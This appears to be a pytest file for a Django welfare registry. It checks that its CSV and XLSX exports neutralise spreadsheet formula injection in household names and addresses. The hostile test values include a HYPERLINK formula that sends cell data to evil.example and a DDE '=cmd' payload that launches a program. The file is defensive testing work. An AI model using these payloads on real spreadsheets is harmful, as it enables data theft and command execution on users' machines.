"""Formula injection (issue #15, item 5): hostile names and addresses written through every file entas
offers to open in a spreadsheet. No XLSX cell is a formula or a link; no CSV cell starts like a
formula (it carries the escaping apostrophe); negative numbers stay numbers; and an export in the
import format re-imports unchanged, hostile names included."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone

from entas.accounts.models import User
from entas.core.spreadsheet import CsvWriter
from entas.dedup.models import DedupRun, DuplicatePair, LinkageModel
from entas.dedup.selectors import write_pairs_csv
from entas.programs import rendering
from entas.regions.models import Region
from entas.registry.exporter import export_registry, ratified_list_xlsx, template_xlsx
from entas.registry.importer import import_registry
from entas.registry.models import Household, Member
from entas.registry.names import name_key
from tests.registry.helpers import family

MANGGAR = "64.71.01.1001"
KK = "6471010101200001"

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")',
    "=1+1",
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    "-",
]
HOSTILE_ADDRESS = '=HYPERLINK("http://evil.example/","Jl. Mawar")'
LATITUDE, LONGITUDE = -1.2667, 116.8312

# Independent of the code under test: what a spreadsheet runs as a formula when it opens a CSV.
_RUNS = re.compile(r"\s*[=+\-@\t\r＝＋－＠]")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def runs_as_formula(cell: str) -> bool:
    return _RUNS.match(cell) is not None and _NUMBER.fullmatch(cell) is None


def hostile_rows() -> list[dict[str, str]]:
    people = [
        (name, "1" if i % 2 == 0 else "2", dt.date(1980 + i, 1 + i, 1 + i), "1" if i == 0 else "3")
        for i, name in enumerate(HOSTILE_NAMES)
    ]
    rows = family(MANGGAR, KK, people, latitude=LATITUDE, longitude=LONGITUDE)
    for row in rows:
        row["address"] = HOSTILE_ADDRESS
    return rows


def write_plain_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    """A file as a hostile (or careless) hand writes it: every cell raw."""
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.fixture
def hostile_household(regions: dict[str, Region], tmp_path: Path) -> Household:
    """A ratified family of Manggar whose names and address are formulas."""
    rows = hostile_rows()
    quoted = HOSTILE_NAMES.index("'=1+1")
    rows[quoted]["name"] = "Sementara"  # a raw '=1+1 in a CSV file reads as =1+1: stored below instead
    summary = import_registry(write_plain_csv(tmp_path / "in.csv", rows), actor=None, rejection_path=tmp_path / "r.csv")
    assert (summary.inserted, summary.rejected) == (len(HOSTILE_NAMES), 0), summary
    key = name_key("'=1+1")
    Member.objects.filter(name="Sementara").update(name="'=1+1", name_key=key, name_key_rev=key[::-1])
    household = Household.objects.get(kk_number=KK)
    assert sorted(household.members.values_list("name", flat=True)) == sorted(HOSTILE_NAMES)
    assert household.address == HOSTILE_ADDRESS and household.latitude == LATITUDE
    Household.objects.filter(pk=household.pk).update(verification_status="disahkan", ratified_at=timezone.now())
    return household


# -- the exports ---------------------------------------------------------------------------------------
# Each writes one file holding the hostile names and returns its bytes.


def registry_csv(user: User, household: Household, tmp_path: Path) -> bytes:
    export_registry(user, tmp_path / "out.csv", "csv")
    return (tmp_path / "out.csv").read_bytes()


def registry_xlsx(user: User, household: Household, tmp_path: Path) -> bytes:
    export_registry(user, tmp_path / "out.xlsx", "xlsx")
    return (tmp_path / "out.xlsx").read_bytes()


def ratified_xlsx(user: User, household: Household, tmp_path: Path) -> bytes:
    out = io.BytesIO()
    assert ratified_list_xlsx(user, household.kelurahan, out) == 1
    return out.getvalue()


def rejection_csv(user: User, household: Household, tmp_path: Path) -> bytes:
    """The rejection file of an import: the hostile cells of the rejected rows, as sent (unescaped)."""
    rows = hostile_rows()
    for row in rows:
        row["kk_number"] = "6471010101200009"
    rows[0]["nik"] = "1"  # the family is held back whole
    summary = import_registry(
        write_plain_csv(tmp_path / "bad.csv", rows), actor=user, rejection_path=tmp_path / "rejected.csv"
    )
    assert summary.rejected == len(HOSTILE_NAMES)
    return (tmp_path / "rejected.csv").read_bytes()


def dedup_pairs_csv(user: User, household: Household, tmp_path: Path) -> bytes:
    members = list(household.members.order_by("pk"))
    Member.objects.filter(pk=members[1].pk).update(nik="=1+1")  # stored around validation, as the admin could
    model = LinkageModel.objects.create(version=1, splink_model={})
    run = DedupRun.objects.create(model=model, review_threshold=0.5, auto_link_threshold=0.99)
    DuplicatePair.objects.create(
        run=run, member_l=members[0], member_r=members[1], probability=0.02, match_weight=-5.625, cluster=1
    )
    write_pairs_csv(run, tmp_path / "pairs.csv")
    text = (tmp_path / "pairs.csv").read_text()
    assert ",-5.625," in text  # a negative number stays a number
    return text.encode()


def _cash_rows(household: Household) -> list[rendering.CashRow]:
    return [
        {
            "reference": f"ENTAS-1-{m.pk}",
            "amount": 300_000,
            "household": household.pk,
            "kk_number": household.kk_number,
            "kelurahan": "Manggar",
            "rt": household.rt,
            "address": household.address,
            "recipient": m.name,
        }
        for m in household.members.order_by("pk")
    ]


def cash_list_xlsx(user: User, household: Household, tmp_path: Path) -> bytes:
    out = io.BytesIO()
    rendering.cash_list_xlsx(_cash_rows(household), out, programme="=BLT()", period="2026-12")
    return out.getvalue()


def bank_csv(user: User, household: Household, tmp_path: Path) -> bytes:
    transfers: list[rendering.Transfer] = [
        {
            "reference": r["reference"],
            "amount": r["amount"],
            "bank_code": "014",
            "bank_name": "Bank Central Asia (BCA)",
            "account_number": "0012345678",
            "account_holder": r["recipient"],
            "kk_number": r["kk_number"],
            "kelurahan": r["kelurahan"],
        }
        for r in _cash_rows(household)
    ]
    return rendering.bank_csv(transfers, description="=BLT() 2026-12")


def payees_xlsx(user: User, household: Household, tmp_path: Path) -> bytes:
    """The approver's payee list of a cycle (issue #16): a programme named like a formula, the head
    of the family's hostile name, a flag that starts like one."""
    from entas.programs import services
    from entas.programs.jobs import payees_xlsx as write
    from entas.programs.models import Entitlement
    from entas.targeting import services as targeting
    from tests.helpers import make_programme

    rule = targeting.save_rule(actor=None, name="Semua", expression="true", benefit=300_000)
    programme = make_programme(rule, name="=BLT()")
    cycle = services.create_cycle(programme=programme, period="2026-12", actor=user)
    Entitlement.objects.create(cycle=cycle, household=household, amount=300_000, flags="=1+1")
    out = io.BytesIO()
    assert write(user, cycle, out)["payees"] == 1
    return out.getvalue()


def policy_register_xlsx(user: User, household: Household, tmp_path: Path) -> bytes:
    """The policy register's export: a plan, strategy, programme, activity and funding note named like
    formulas."""
    from entas.accounts.models import Opd
    from entas.policy import selectors
    from entas.policy.export import register_xlsx
    from entas.policy.models import Activity, BudgetMonth, Plan, ProgrammeRecord, Strategy
    from entas.programs.models import Programme

    opd = Opd.objects.create(code="DINSOS", name="Dinas Sosial")
    plan = Plan.objects.create(code="=RPKD()", title=HOSTILE_NAMES[0], start_year=2025, end_year=2029)
    strategy = Strategy.objects.create(plan=plan, code="S1", name="=1+1", goals="@SUM(A1:A9)")
    programme = Programme.objects.create(
        name="=BLT()", kind="training", agency="x", start=dt.date(2025, 1, 1), end=dt.date(2029, 12, 31)
    )
    record = ProgrammeRecord.objects.create(
        programme=programme, strategy=strategy, code="P1", lead_opd=opd, target_group="-2+3"
    )
    activity = Activity.objects.create(record=record, code="1.06.04.2.01.0001", name="+62 812", opd=opd, output="=cmd")
    BudgetMonth.objects.create(activity=activity, month=dt.date(2025, 1, 1), pagu=1000)
    return register_xlsx(selectors.register(user, plan, dt.date(2029, 12, 31)))


ESCAPED_NAMES = {"'" + n for n in HOSTILE_NAMES}
# export: (writer, cells the file must hold: XLSX the values as they are, CSV their escaped forms)
EXPORTS: dict[str, tuple[Callable[[User, Household, Path], bytes], set[str]]] = {
    "registry.csv": (registry_csv, {*ESCAPED_NAMES, "'" + HOSTILE_ADDRESS}),
    "registry.xlsx": (registry_xlsx, {*HOSTILE_NAMES, HOSTILE_ADDRESS}),
    "ratified-list.xlsx": (ratified_xlsx, {HOSTILE_NAMES[0], HOSTILE_ADDRESS}),  # the head of the family
    # The plain file's cells, made inert: "'=1+1" was already text there and is kept as it was.
    "import-rejections.csv": (rejection_csv, {*(ESCAPED_NAMES - {"''=1+1"}), "'" + HOSTILE_ADDRESS}),
    "dedup-pairs.csv": (dedup_pairs_csv, {"'=1+1"}),
    "cash-list.xlsx": (cash_list_xlsx, {*HOSTILE_NAMES, HOSTILE_ADDRESS, "=BLT() - 2026-12"}),
    "bank.csv": (bank_csv, {*ESCAPED_NAMES, "'=BLT() 2026-12"}),
    "payees.xlsx": (payees_xlsx, {HOSTILE_NAMES[0], "=BLT() 2026-12", "=1+1"}),
    "policy-register.xlsx": (
        policy_register_xlsx,
        {"=RPKD()", HOSTILE_NAMES[0], "=1+1", "@SUM(A1:A9)", "=BLT()", "-2+3", "+62 812", "=cmd"},
    ),
}


def xlsx_cells(content: bytes) -> list[Any]:
    from python_calamine import CalamineWorkbook

    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]


def assert_no_formula_in_xlsx(content: bytes) -> None:
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
    assert sheets
    for name in sheets:
        xml = archive.read(name).decode()
        assert re.search(r"<f[ >/]", xml) is None, f"a formula in {name}"
        assert "<hyperlink" not in xml, f"a link in {name}"
        # Every cell is a string (shared or inline), a number or a boolean: never t="str" (a formula's text).
        assert set(re.findall(r'<c [^>]*?t="(\w+)"', xml)) <= {"s", "inlineStr", "b"}


@pytest.mark.django_db
@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_hostile_name_becomes_a_formula(
    export: str, hostile_household: Household, dinsos_manager: User, tmp_path: Path
) -> None:
    write, expected = EXPORTS[export]
    content = write(dinsos_manager, hostile_household, tmp_path)
    if export.endswith(".xlsx"):
        assert_no_formula_in_xlsx(content)
        assert expected <= set(xlsx_cells(content))  # text exactly as stored, no apostrophe added
        return
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    assert [cell for cell in cells if runs_as_formula(cell)] == []
    assert expected <= set(cells)


@pytest.mark.django_db
def test_the_import_template_holds_no_formula(tmp_path: Path) -> None:
    template_xlsx(tmp_path / "t.xlsx")
    assert_no_formula_in_xlsx((tmp_path / "t.xlsx").read_bytes())


@pytest.mark.django_db
def test_negative_numbers_stay_numbers_in_the_registry_csv(
    hostile_household: Household, dinsos_manager: User, tmp_path: Path
) -> None:
    export_registry(dinsos_manager, tmp_path / "out.csv", "csv")
    rows = list(csv.DictReader((tmp_path / "out.csv").open(encoding="utf-8")))
    assert {(r["latitude"], r["longitude"]) for r in rows} == {(str(LATITUDE), str(LONGITUDE))}


@pytest.mark.django_db
def test_parquet_holds_the_true_values(hostile_household: Household, dinsos_manager: User, tmp_path: Path) -> None:
    """Parquet is read by data tools, not spreadsheets: the names are there unescaped."""
    import duckdb

    export_registry(dinsos_manager, tmp_path / "out.parquet", "parquet")
    names = {row[0] for row in duckdb.read_parquet(str(tmp_path / "out.parquet")).project("name").fetchall()}
    assert names == set(HOSTILE_NAMES)
    assert not list(tmp_path.glob("*.part"))  # the staging CSV is gone


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_hostile_names_survive_an_export_and_a_reimport(
    fmt: str, hostile_household: Household, dinsos_manager: User, tmp_path: Path
) -> None:
    before = dict(Member.objects.values_list("nik", "name"))
    export_registry(dinsos_manager, tmp_path / f"out.{fmt}", fmt)
    summary = import_registry(tmp_path / f"out.{fmt}", actor=dinsos_manager, rejection_path=tmp_path / "r.csv")
    assert (summary.unchanged, summary.total) == (len(HOSTILE_NAMES), len(HOSTILE_NAMES)), summary
    assert dict(Member.objects.values_list("nik", "name")) == before
    assert Household.objects.get(kk_number=KK).address == HOSTILE_ADDRESS


@pytest.mark.django_db
def test_a_fixed_rejection_file_imports_what_was_meant(regions: dict[str, Region], tmp_path: Path) -> None:
    """The rejection file escapes the hostile cells it repeats; importing it once fixed gives the
    values of the original file, not values with an apostrophe more."""
    rows = hostile_rows()
    rows[0]["nik"] = "1"
    summary = import_registry(
        write_plain_csv(tmp_path / "bad.csv", rows), actor=None, rejection_path=tmp_path / "rejected.csv"
    )
    assert summary.rejected == len(HOSTILE_NAMES)
    with (tmp_path / "rejected.csv").open(encoding="utf-8-sig", newline="") as handle:
        rejected = list(csv.reader(handle))
    nik = rejected[0].index("nik")
    rejected[1][nik] = hostile_rows()[0]["nik"]  # the fix, as in a text editor: every other cell as it was
    with (tmp_path / "fixed.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rejected)
    summary = import_registry(tmp_path / "fixed.csv", actor=None, rejection_path=tmp_path / "rejected2.csv")
    assert (summary.inserted, summary.rejected) == (len(HOSTILE_NAMES), 0), summary
    # The plain file said "=1+1" (not "'=1+1"), and "'=1+1" (read as =1+1): both read as =1+1 again.
    assert sorted(Member.objects.values_list("name", flat=True)) == sorted(
        n if n != "'=1+1" else "=1+1" for n in HOSTILE_NAMES
    )


@pytest.mark.django_db
def test_an_escaped_csv_file_imports_its_values(regions: dict[str, Region], tmp_path: Path) -> None:
    """A CSV file whose text cells are escaped as entas escapes them imports the values themselves."""
    rows = hostile_rows()
    path = tmp_path / "in.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = CsvWriter(handle)
        writer.writerow(list(rows[0]))
        writer.writerows([list(row.values()) for row in rows])
    assert "''=1+1" in path.read_text()
    summary = import_registry(path, actor=None, rejection_path=tmp_path / "r.csv")
    assert (summary.inserted, summary.rejected) == (len(HOSTILE_NAMES), 0), summary
    assert sorted(Member.objects.values_list("name", flat=True)) == sorted(HOSTILE_NAMES)
    assert Household.objects.get().address == HOSTILE_ADDRESS
